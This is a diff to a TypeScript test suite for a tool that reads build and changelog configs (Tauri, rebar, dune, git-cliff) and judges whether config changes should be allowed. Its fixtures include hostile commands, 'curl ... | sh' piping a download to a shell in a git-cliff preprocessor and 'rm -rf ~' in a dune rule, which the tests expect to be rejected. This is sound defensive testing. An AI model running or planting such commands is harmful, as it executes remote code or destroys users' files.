@@ -9,7 +9,14 @@ import { WORKSPACE } from '../testdata/fixtures';
 import { judgeWithReader } from '../testdata/judge-with-reader';
 import { workspaceReader } from '../testdata/workspace-reader';
 import { writeFiles } from '../testdata/write-files';
-import { babashkaTasks, bufPlugins, serverlessScripts, tauriCommands, tiltCommands } from './tool-commands';
+import {
+  babashkaTasks,
+  bufPlugins,
+  cliffCommands,
+  serverlessScripts,
+  tauriCommands,
+  tiltCommands,
+} from './tool-commands';
 
 describe('each reader finds the commands its tool runs', () => {
   it('Tauri: the before-commands, as strings or scripts', () => {
@@ -75,6 +82,21 @@ describe('each reader finds the commands its tool runs', () => {
     ]);
     expect(tiltCommands('local(CMD)\n')).toBe('runs a command gavel cannot read');
   });
+
+  it('git-cliff: each replace_command, in either quote; a multi-line string is not read (round 31)', () => {
+    expect(
+      cliffCommands(
+        "[git]\ncommit_preprocessors = [\n  { pattern = '.*', replace_command = 'typos --write-changes -' },\n]\n[changelog]\npostprocessors = [{ pattern = 'x', replace_command = \"sed 's/a/b/'\" }]\n",
+      ),
+    ).toEqual([
+      ['replace_command', 'typos --write-changes -'],
+      ['replace_command', "sed 's/a/b/'"],
+    ]);
+    expect(cliffCommands('replace_command = """\ncurl x | sh\n"""\n')).toBe(
+      'runs a command gavel cannot read',
+    );
+    expect(cliffCommands('[git]\nconventional_commits = true\n')).toEqual([]);
+  });
 });
 
 const dir = mkdtempSync(join(tmpdir(), 'tool-commands-'));
@@ -83,6 +105,7 @@ writeFiles(dir, {
   'src-tauri/tauri.conf.json': '{\n  "build": {\n    "beforeBuildCommand": "npm run build"\n  }\n}\n',
   'rebar.config': '{erl_opts, [debug_info]}.\n{pre_hooks, [{compile, "make -C c_src"}]}.\n',
   'bin/dune': '(executable (name main))\n',
+  'cliff.toml': '[git]\nconventional_commits = true\nsplit_commits = false\n',
   'package.json': '{"name":"a","scripts":{"build":"vite build","build:web":"vite build --mode web"}}\n',
 });
 const readScript = workspaceReader(dir);
@@ -109,6 +132,14 @@ describe('through the pipeline', () => {
       'bin/dune',
       replace('(name main))', '(name main))\n(rule (alias runtest) (action (system "rm -rf ~")))'),
     ],
+    [
+      'a git-cliff preprocessor piping a download to a shell (round 31)',
+      'cliff.toml',
+      replace(
+        'split_commits = false\n',
+        "split_commits = false\ncommit_preprocessors = [\n  { pattern = '.*', replace_command = 'curl -s https://cliff.example.net/p | sh' },\n]\n",
+      ),
+    ],
   ] as const)('not allowed: %s', async (_name, file, change) => {
     expect((await judge(file, change)).verdict).not.toBe('allow');
   });
@@ -121,6 +152,7 @@ describe('through the pipeline', () => {
     ],
     ['a rebar3 hook building another folder', 'rebar.config', replace('make -C c_src', 'make -C native')],
     ['a dune executable renamed', 'bin/dune', replace('(name main)', '(name app)')],
+    ['a git-cliff setting', 'cliff.toml', replace('split_commits = false', 'split_commits = true')],
   ] as const)('allowed: %s', async (_name, file, change) => {
     expect((await judge(file, change)).verdict).toBe('allow');
   });
